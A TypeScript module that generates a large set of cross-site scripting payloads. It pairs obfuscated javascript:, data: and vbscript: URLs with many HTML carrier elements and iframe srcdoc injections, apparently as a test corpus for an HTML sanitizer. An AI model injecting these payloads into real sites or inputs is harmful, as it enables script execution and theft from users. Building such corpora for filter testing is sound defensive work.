import { code, type Maker } from "./piece";

const base64 = (text: string) => Buffer.from(text).toString("base64");

/** Script URLs, as written in a quoted attribute. */
const ADDRESSES: Maker[] = [
  (id) => `javascript:${code(id)}`,
  (id) => `JaVaScRiPt:${code(id)}`,
  (id) => ` \t\n javascript:${code(id)}`,
  (id) => `\u0001\u001fjavascript:${code(id)}`,
  (id) => `java\tscript:${code(id)}`,
  (id) => `java\r\nscript\n:${code(id)}`,
  (id) => `&#106;avascript:${code(id)}`,
  (id) => `&#x6A;&#x61vascript&#58;${code(id)}`,
  (id) => `&#0000106avascript&colon;${code(id)}`,
  (id) => `java&Tab;scr&NewLine;ipt&colon;${code(id)}`,
  (id) => `&#1;javascript:${code(id)}`,
  (id) => `javascript://甲%0a${code(id)}`,
  (id) => `javascript:/*&lt;/title>&lt;/textarea>*/${code(id)}`,
  (id) => `javascript:void%20${code(id)}`,
  (id) => `data:text/html,&lt;script>${code(id)}&lt;/script>`,
  (id) => `data:text/html;base64,${base64(`<script>${code(id)}</script>`)}`,
  (id) => `DATA:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${code(id)}'/>`,
  (id) => `vbscript:${code(id)}`,
];

/** Elements that open a URL, by themselves or on click. */
const CARRIERS: ((address: string) => string)[] = [
  (address) => `<a href="${address}">甲</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>甲</text></a></svg>`,
  (address) => `<iframe src="${address}" title="视频"></iframe>`,
  (address) => `<form action="${address}"><button>甲</button></form>`,
  (address) => `<button form=f formaction="${address}">甲</button><form id=f></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<math><mtext href="${address}">甲</mtext></math>`,
];
/** These are used with the plain URL only. */
const MORE_CARRIERS: ((address: string) => string)[] = [
  (address) => `<map name=m><area shape=default href="${address}"></map><img usemap=#m src=/icon.svg>`,
  (address) => `<img src="${address}" srcset="${address} 1x"><a href="${address}">甲</a>`,
  (address) => `<video poster="${address}" src="${address}"></video><a href="${address}">甲</a>`,
  (address) => `<blockquote cite="${address}"><a href="${address}">甲</a></blockquote>`,
  (address) =>
    `<table background="${address}"><tbody><tr><td><a href="${address}">甲</a></td></tr></tbody></table>`,
  (address) =>
    `<a href="/contact" href="${address}" target=_self ping="${address}" onclick="location=this.href">甲</a>`,
  (address) => `<form><input type=submit formaction="${address}" value=甲></form>`,
  (address) => `<form><input type=image formaction="${address}" src=/icon.svg></form>`,
  (address) => `<svg><a><set attributeName=href to="${address}"></set><text y=9>甲</text></a></svg>`,
  (address) =>
    `<svg><a><animate attributeName=href values="${address}" fill=freeze dur=1ms /><text y=9>甲</text></a></svg>`,
  (address) =>
    `<svg><a><animate attributeName="xlink:href" from="${address}" to="&"/><text y=9>甲</text></a><a href="${address}">甲</a></svg>`,
  (address) => `<svg><use href="${address}"></use></svg><a href="${address}">甲</a>`,
  (address) => `<frameset><frame src="${address}"></frameset><a href="${address}">甲</a>`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}"><a href="${address}">甲</a>`,
  (address) => `<base href="${address}//"><a href="#">甲</a><a href="${address}">甲</a>`,
  (address) => `<applet code="${address}"></applet><a href="${address}">甲</a>`,
  (address) => `<a href='${address}' rel="x" class='"><a href="${address}">'>甲</a>`,
];

const SRCDOC: Maker[] = [
  (id) => `<iframe srcdoc="<script>${code(id)}</script>"></iframe>`,
  (id) => `<iframe srcdoc="&lt;script&gt;${code(id)}&lt;/script&gt;"></iframe>`,
  (id) => `<iframe srcdoc='<img src=x onerror=${code(id)}>' title=视频></iframe>`,
  (id) => `<IFRAME SRCDOC=<svg/onload=${code(id)}>></IFRAME>`,
  (id) =>
    `<iframe src="https://player.bilibili.com/player.html" srcdoc="<script>${code(id)}</script>"></iframe>`,
  (id) =>
    `<iframe src="https://v.qq.com/x" sandbox="allow-scripts allow-top-navigation" srcdoc="<body onload=${code(id)}>"></iframe>`,
  (id) => `<iframe\nsrcdoc\n=\n"&#60;script&#62;${code(id)}&#60;/script&#62;"\n></iframe>`,
  (id) => `<iframe srcdoc="<iframe srcdoc='<script>${code(id)}</script>'></iframe>"></iframe>`,
];

export const addresses = (): Maker[] => [
  ...CARRIERS.flatMap((carry) =>
    ADDRESSES.map(
      (address): Maker =>
        (id) =>
          carry(address(id)),
    ),
  ),
  ...MORE_CARRIERS.flatMap((carry) =>
    ADDRESSES.slice(0, 2).map(
      (address): Maker =>
        (id) =>
          carry(address(id)),
    ),
  ),
  ...SRCDOC,
];
